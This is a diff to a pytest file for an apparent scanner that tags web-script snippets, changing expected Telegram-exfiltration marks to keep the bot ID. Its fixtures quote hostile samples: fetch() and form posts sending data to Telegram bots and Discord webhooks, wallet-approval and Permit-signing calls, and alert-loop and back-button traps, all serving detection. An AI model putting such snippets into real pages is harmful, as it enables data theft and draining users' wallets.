@@ -98,7 +98,7 @@ TOKEN = "123456789:AA" + "x" * 33
         ("nft.setApprovalForAll(op,true)", ("wallet", "setApprovalForAll", "")),
         ("token.increaseAllowance(a,b)", ("wallet", "increaseAllowance", "")),
         ("signer.signTypedData({Permit:1})", ("wallet", "sign", "")),
-        (f"fetch('https://api.telegram.org/bot{TOKEN}/sendMessage')", ("exfil", "telegram-bot", "")),
+        (f"fetch('https://api.telegram.org/bot{TOKEN}/sendMessage')", ("exfil", "telegram-bot", "123456789")),
         ("fetch('https://api.telegram.org/bot'+t+'/sendMessage')", ("exfil", "telegram-bot", "")),
         ("function v(){if(!x){alert('a');return false}} while(true){alert('b')}", ("behaviour", "dialog-loop", "")),
         ("while(true){ if(!a) b(); alert('x'); location.href='tel:1' }", ("behaviour", "dialog-loop", "")),
@@ -119,9 +119,9 @@ TOKEN = "123456789:AA" + "x" * 33
         ('window.addEventListener("popstate",function(e){location.href=backUrl},false)', ("behaviour", "history-trap", "")),
         ("/*bot[x*/fetch('//api.telegram.org/bot'+t)", ("exfil", "telegram-bot", "")),
         ("fetch(`https://api.telegram.org/bot${t}/sendMessage`)", ("exfil", "telegram-bot", "")),
-        ('{"u":"https:\\/\\/api.telegram.org\\/bot123456789:AA"}', ("exfil", "telegram-bot", "")),
-        ("<form action=https://api.telegram.org/bot123456789:AA/sendMessage>", ("exfil", "telegram-bot", "")),
-        (f"var t='{TOKEN}'", ("exfil", "telegram-bot", "")),
+        ('{"u":"https:\\/\\/api.telegram.org\\/bot123456789:AA"}', ("exfil", "telegram-bot", "123456789")),
+        ("<form action=https://api.telegram.org/bot123456789:AA/sendMessage>", ("exfil", "telegram-bot", "123456789")),
+        (f"var t='{TOKEN}'", ("exfil", "telegram-bot", "123456789")),
         ("https://discord.com/api/webhooks/123456789/abc", ("exfil", "discord-webhook", "")),
         ("fetch('https://discordapp.com/api/v10/webhooks/123456789/abc')", ("exfil", "discord-webhook", "")),
         ('{"u":"https:\\/\\/discord.com\\/api\\/webhooks\\/123456789\\/abc"}', ("exfil", "discord-webhook", "")),
@@ -227,7 +227,7 @@ def test_a_token_is_never_kept() -> None:
 
 def test_a_flood_of_marks_hides_none() -> None:
     flood = "'GTM-ABCD123' " * 9_000
-    assert ("exfil", "telegram-bot", "") in marks(f"{flood} https://api.telegram.org/bot{TOKEN}")
+    assert ("exfil", "telegram-bot", "123456789") in marks(f"{flood} https://api.telegram.org/bot{TOKEN}")
 
 
 @pytest.mark.parametrize("rule", load_rules(), ids=lambda rule: f"{rule.kind} {rule.name}")
